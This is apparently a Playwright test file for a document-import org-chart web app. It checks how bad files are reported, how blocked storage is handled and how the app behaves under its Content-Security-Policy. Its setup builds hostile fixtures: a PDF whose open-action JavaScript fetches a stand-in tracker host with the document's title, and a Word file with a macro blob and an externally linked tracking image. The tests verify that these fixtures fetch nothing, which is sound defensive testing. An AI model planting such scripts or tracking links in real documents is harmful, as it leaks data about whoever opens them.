import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { strToU8, unzipSync, zipSync } from "fflate";
import { buildPdf } from "../convert/pdf-builder.ts";
import type { Page } from "playwright-core";
import { startStaticServer } from "../../scripts/lib/static-server.ts";
import type { StaticServer } from "../../scripts/lib/static-server.ts";
import { ROOT, chartReady, serveBuiltApp } from "./server.ts";
import {
  IMPORT_FIXTURES,
  fixture,
  importOutcome,
  pickFiles,
  watchRequests,
} from "./import-helpers.ts";

const SHOTS = path.join(ROOT, "test-output", "screenshots");
const app = serveBuiltApp({ outputs: [SHOTS] });

let scratch = "";
before(() => {
  scratch = fs.mkdtempSync(path.join(os.tmpdir(), "org-atlas-bad-"));
  fs.writeFileSync(path.join(scratch, "empty.docx"), "");
  fs.writeFileSync(
    path.join(scratch, "documents.zip"),
    zipSync({ "a.md": new TextEncoder().encode("# Director") }),
  );
  // A PDF that runs JavaScript when opened and links to a tracker; a Word file with macros and
  // a picture linked from a tracker (as test/convert/bad-input.test.ts makes them).
  fs.writeFileSync(
    path.join(scratch, "actions.pdf"),
    buildPdf({
      pages: [["Position Title: Director, Data Services", "Reports To: Chief Data Officer"]],
      openActionJavaScript: "fetch('http://tracker.invalid/'+document.title)",
      linkUri: "http://tracker.invalid/click",
    }),
  );
  const word = unzipSync(
    new Uint8Array(
      fs.readFileSync(path.join(IMPORT_FIXTURES, "docx/hc-director-strategic-planning.docx")),
    ),
  );
  const decode = (bytes: Uint8Array | undefined) => new TextDecoder().decode(bytes);
  const rels = decode(word["word/_rels/document.xml.rels"]).replace(
    "</Relationships>",
    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://tracker.invalid/pixel.png" TargetMode="External"/></Relationships>',
  );
  const picture =
    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rIdX"/></v:shape></w:pict></w:r></w:p>';
  fs.writeFileSync(
    path.join(scratch, "macros.docx"),
    zipSync({
      ...word,
      "word/_rels/document.xml.rels": strToU8(rels),
      "word/document.xml": strToU8(
        decode(word["word/document.xml"]).replace("<w:body>", `<w:body>${picture}`),
      ),
      "word/vbaProject.bin": new Uint8Array(2048).fill(7),
    }),
  );
});
after(() => fs.rmSync(scratch, { recursive: true, force: true }));

/** The problems the report lists, as "file: reason" lines. */
async function listedProblems(page: Page): Promise<string[]> {
  const items = page.locator(".import-report__problems li");
  return (await items.allInnerTexts()).map((t) => t.replace(/\s+/g, " ").trim());
}

describe("bad files, in the browser", () => {
  it("each bad file is listed with its name and reason, in English and French; the good one is charted", async () => {
    const page = await app.browser.newPage({ viewport: { width: 1366, height: 768 } });
    page.on("pageerror", (e) => console.error("pageerror:", e.message));
    await page.goto(app.preview.url);
    await chartReady(page);
    await pickFiles(page, [
      fixture("bad/corrupt.docx"),
      fixture("bad/truncated.pdf"),
      fixture("bad/legacy-word.doc"),
      fixture("bad/rich-text.rtf"),
      fixture("bad/open-document.odt"),
      fixture("bad/password-protected.pdf"),
      fixture("bad/no-text.jpg"),
      path.join(scratch, "empty.docx"),
      path.join(scratch, "documents.zip"),
      fixture("docx/esdc-director-ei-processing.docx"),
    ]);
    assert.equal(await importOutcome(page), "Read 1 of 10 files: the chart has 6 positions.");
    const problems = await listedProblems(page);
    const reason = (file: string) => problems.find((p) => p.startsWith(`${file} `)) ?? "";
    assert.match(reason("corrupt.docx"), /Word file is damaged or incomplete/);
    assert.match(reason("truncated.pdf"), /PDF is damaged or incomplete/);
    assert.match(
      reason("legacy-word.doc"),
      /old Word document \(\.doc\)\. Save it as \.docx or PDF/,
    );
    assert.match(reason("rich-text.rtf"), /Rich Text \(\.rtf\)/);
    assert.match(reason("open-document.odt"), /OpenDocument \(\.odt\)/);
    assert.match(reason("password-protected.pdf"), /protected by a password/);
    assert.match(reason("no-text.jpg"), /No text was found in it/);
    assert.match(reason("empty.docx"), /The file is empty\./);
    assert.match(reason("documents.zip"), /zip archive\. Unzip it/);
    assert.equal(problems.length, 9, problems.join("\n"));
    await page.screenshot({ path: path.join(SHOTS, "import-bad-files.png") });
    // The good file still became the chart.
    await page.getByRole("group", { name: /^Director, Employment Insurance Processing/ }).waitFor();

    // The same report in French: the reasons are the reader's language, the file names as they are.
    await page.getByRole("button", { name: "Français" }).click();
    await page.getByRole("region", { name: "Ouverture des documents" }).waitFor();
    const french = await listedProblems(page);
    assert.match(
      french.find((p) => p.startsWith("legacy-word.doc ")) ?? "",
      /ancien document Word \(\.doc\)/,
    );
    assert.match(french.find((p) => p.startsWith("documents.zip ")) ?? "", /archive zip/);
    await page.screenshot({ path: path.join(SHOTS, "import-bad-files-fr.png") });
    await page.close();
  });

  it("a PDF with a JavaScript action and a link, and a Word file with macros and a linked picture, fetch nothing", async () => {
    const context = await app.browser.newContext({ viewport: { width: 1366, height: 768 } });
    const requests = watchRequests(context, app.preview.url.replace(/\/$/, ""));
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on("dialog", (d) => void d.dismiss().then(() => dialogs.push(d.message())));
    await page.goto(app.preview.url);
    await chartReady(page);
    await pickFiles(page, [path.join(scratch, "actions.pdf"), path.join(scratch, "macros.docx")]);
    assert.match(await importOutcome(page), /^Read 2 files/);
    await page.getByRole("group", { name: /^Director, Data Services/ }).waitFor();
    await page.getByRole("group", { name: /^Director, Strategic Planning/ }).waitFor();
    assert.deepEqual(requests.outside(), []);
    assert.ok(!requests.all.some((url) => url.includes("tracker.invalid")));
    assert.deepEqual(dialogs, []);
    await context.close();
  });

  it("when the browser cannot keep data, it says so and the chart still works for the session", async () => {
    const context = await app.browser.newContext({ viewport: { width: 1366, height: 768 } });
    // As in a browser that refuses storage: every IndexedDB open fails.
    await context.addInitScript(() => {
      IDBFactory.prototype.open = function () {
        throw new DOMException(
          "The user denied permission to access the database.",
          "SecurityError",
        );
      };
    });
    const page = await context.newPage();
    await page.goto(app.preview.url);
    await chartReady(page);
    await pickFiles(page, [fixture("docx/cra-manager-domestic-collections.docx")]);
    assert.match(await importOutcome(page), /^Read 1 file/);
    const warning = page
      .getByRole("region", { name: "Where this chart comes from" })
      .getByRole("alert");
    assert.match(
      await warning.innerText(),
      /does not allow keeping data.*lasts until this page is closed/,
    );
    await page.getByRole("group", { name: /^Manager, Domestic Collections/ }).waitFor();
    await page.screenshot({ path: path.join(SHOTS, "import-storage-blocked.png") });
    await context.close();
  });
});

/** The built app, served with `policy` as a header on every file (workers included). */
function serveWithPolicy(policy: string): Promise<StaticServer> {
  return startStaticServer({ "/": path.join(ROOT, "dist") }, () => null, {
    "content-security-policy": policy,
  });
}

describe("under the Content-Security-Policy sent as a header on every file, workers included", () => {
  let server: StaticServer;
  let withoutWasm: StaticServer;
  before(async () => {
    const html = fs.readFileSync(path.join(ROOT, "dist/index.html"), "utf8");
    const policy = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html)?.[1] ?? "";
    assert.ok(policy?.includes("'wasm-unsafe-eval'"), "index.html's policy allows WebAssembly");
    server = await serveWithPolicy(policy);
    withoutWasm = await serveWithPolicy(policy.replace(" 'wasm-unsafe-eval'", ""));
  });
  after(() => {
    server?.stop();
    withoutWasm?.stop();
  });

  it("without 'wasm-unsafe-eval', a scan is reported as needing OCR instead of hanging", async () => {
    const page = await app.browser.newPage({ viewport: { width: 1366, height: 768 } });
    await page.goto(withoutWasm.url);
    await chartReady(page);
    await pickFiles(page, [
      fixture("scan/cra-director-collections-operations.scan.pdf"),
      fixture("docx/cra-manager-domestic-collections.docx"),
    ]);
    assert.match(await importOutcome(page), /^Read 1 of 2 files: /);
    assert.deepEqual(await listedProblems(page), [
      "cra-director-collections-operations.scan.pdf It is a scan or an image and needs text recognition (OCR), which is not available here.",
    ]);
    await page.close();
  });

  it("a scan is read by OCR and a Word file by mammoth, with no violation and no request elsewhere", async () => {
    const context = await app.browser.newContext({ viewport: { width: 1366, height: 768 } });
    const requests = watchRequests(context, server.url.replace(/\/$/, ""));
    const page = await context.newPage();
    const problems: string[] = [];
    page.on("console", (m) => {
      if (/Content.Security.Policy|Refused to/i.test(m.text())) problems.push(m.text());
    });
    page.on("pageerror", (e) => problems.push(`pageerror: ${e.message}`));
    await page.goto(server.url);
    await chartReady(page);
    await pickFiles(page, [
      fixture("scan/cra-director-collections-operations.scan.pdf"),
      fixture("docx/cra-manager-domestic-collections.docx"),
    ]);
    assert.match(await importOutcome(page), /^Read 2 files/);
    await page.getByRole("group", { name: /^Director, Collections Operations/ }).waitFor();
    assert.deepEqual(problems, []);
    assert.deepEqual(requests.outside(), []);
    await context.close();
  });
});
